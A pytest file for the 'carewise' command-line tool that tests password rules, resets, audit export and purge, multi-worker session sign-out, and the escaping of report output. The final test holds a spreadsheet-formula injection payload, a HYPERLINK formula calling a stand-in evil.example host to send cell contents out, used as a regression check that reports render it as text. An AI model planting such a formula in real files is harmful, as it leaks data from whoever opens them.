"""``carewise users`` and ``carewise audit`` end to end: password rules, changes, resets, the
data protection officer's export and the retention purge."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta

from sqlalchemy import insert
from typer.testing import CliRunner

from carewise.cli import app as cli
from carewise.store import Store, audit, schema
from carewise.store.accounts import find_user, verify_password

runner = CliRunner()


def _run(*args: str):
    return runner.invoke(cli, list(args))


def test_users_add_refuses_common_and_blank_passwords_and_defaults_to_panel(tmp_path):
    db = f"sqlite:///{tmp_path / 'c.db'}"
    for bad in ("password1234", " " * 14, "short"):
        result = _run("users", "add", "someone", "--password", bad, "--db", db)
        assert result.exit_code == 2, result.output
        assert "password" in result.output.lower()
    result = _run("users", "add", "someone", "--password", "quiet harbour lights", "--db", db, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["role"] == "panel"


def test_users_set_and_reset_password(tmp_path):
    db = f"sqlite:///{tmp_path / 'c.db'}"
    assert _run("users", "add", "pat", "--password", "quiet harbour lights", "--db", db).exit_code == 0
    result = _run("users", "set", "pat", "--role", "analyst", "--all-councils", "--db", db, "--json")
    assert result.exit_code == 0, result.output
    got = json.loads(result.output)
    assert got["role"] == "analyst" and got["all_councils"] is True
    result = _run("users", "reset-password", "pat", "--db", db, "--json")
    temporary = json.loads(result.output)["temporary_password"]
    store = Store(db)
    assert verify_password(store, "pat", temporary) is not None
    assert verify_password(store, "pat", "quiet harbour lights") is None
    assert find_user(store, "pat").must_change_password
    assert [e.action for e in audit.events(store, limit=2)] == ["password-reset", "settings-changed"]


def test_audit_export_and_purge(tmp_path):
    db = f"sqlite:///{tmp_path / 'c.db'}"
    store = Store(db)
    audit.record(store, "@pat", "sign-in")
    audit.record(store, "sam", "sign-in")
    with store.engine.begin() as conn:
        conn.execute(insert(schema.audit_event).values(at=datetime.now(UTC) - timedelta(days=400), actor="@pat",
                                                       action="sign-in"))
    today = datetime.now(UTC).date().isoformat()
    out = tmp_path / "audit.csv"
    result = _run("audit", "export", "--out", str(out), "--user", "@pat", "--since", today, "--db", db, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["entries"] == 1
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows[0]["user"] == "'@pat" and rows[0]["when_utc"].endswith("+00:00")
    assert _run("audit", "export", "--out", str(out), "--since", "31/03/2025", "--db", db).exit_code == 2
    assert _run("audit", "purge", "--db", db).exit_code == 2, "no retention set: nothing goes"
    result = _run("audit", "purge", "--days", "365", "--db", db, "--json")
    assert json.loads(result.output) == {"retention_days": 365, "deleted": 1}
    assert audit.count(store, "audit-purged") == 1


def test_serve_with_two_workers_shares_sessions_and_sign_out(tmp_path):
    """``carewise serve --workers 2`` for real: many requests land on both workers; a session made
    on one is known to the other, and signing out ends it for both."""
    import os
    import re
    import socket
    import subprocess
    import sys
    import time
    from pathlib import Path

    import httpx

    from carewise.store.accounts import create_user

    db = f"sqlite:///{tmp_path / 'c.db'}"
    create_user(Store(db), "worker.test", "quiet harbour lights", "analyst")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    carewise = Path(sys.executable).parent / "carewise"
    env = {**os.environ, "CAREWISE_DATA_DIR": str(tmp_path / "data")}
    proc = subprocess.Popen([str(carewise), "serve", "--port", str(port), "--db", db, "--workers", "2"],
                            env=env, stdout=subprocess.DEVNULL, stderr=(tmp_path / "serve.log").open("w"))
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 240
        while True:
            try:
                httpx.get(f"{base}/login", timeout=5)
                break
            except httpx.HTTPError:
                assert proc.poll() is None and time.monotonic() < deadline, (tmp_path / "serve.log").read_text()
                time.sleep(0.5)
        with httpx.Client(base_url=base, timeout=60) as client:
            token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
            r = client.post("/login", data={"username": "worker.test", "password": "quiet harbour lights",
                                            "csrf_token": token})
            assert r.status_code == 303
            cookie = client.cookies["carewise_session"]
            assert all(client.get("/api/v1/councils").status_code == 200 for _ in range(20))
            token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/").text).group(1)
            client.post("/logout", data={"csrf_token": token})
        replay = [httpx.get(f"{base}/api/v1/councils", cookies={"carewise_session": cookie}).status_code
                  for _ in range(20)]
        assert replay == [401] * 20, "no worker still knows the session"
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()


def test_validate_reports_write_an_uploaded_child_id_as_text_never_a_formula(tmp_path):
    """The attack from issue 12: a CHILD id ``=HYPERLINK(...)`` in an uploaded file came out of
    ``carewise validate --format xlsx`` as a live formula, and raw in the CSV."""
    import openpyxl

    folder = tmp_path / "2024-25"
    folder.mkdir()
    child = '"=HYPERLINK(""http://evil.example/?""&A1,""x"")"'
    (folder / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"
                                       f"{child},9,01/01/2010,NOTACODE,UN1,,\n")
    (folder / "episodes.csv").write_text(
        "CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN\n"
        f"{child},01/05/2024,S,C2,N1,U1,PR1,,,,,,\n")
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"report.{fmt}"
        result = _run("validate", str(folder), "--format", fmt, "--out", str(out))
        assert result.exit_code == 1, result.output
        if fmt == "xlsx":
            cells = [c for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
            assert not [c for c in cells if c.data_type == "f"], "no formulas"
            assert any(c.value == "'=HYPERLINK(\"HTTP://EVIL.EXAMPLE/?\"&A1,\"X\")" for c in cells)
        else:
            rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
            children = [r["child"] for r in rows if r["child"]]
            assert children and all(c.startswith("'=") for c in children)
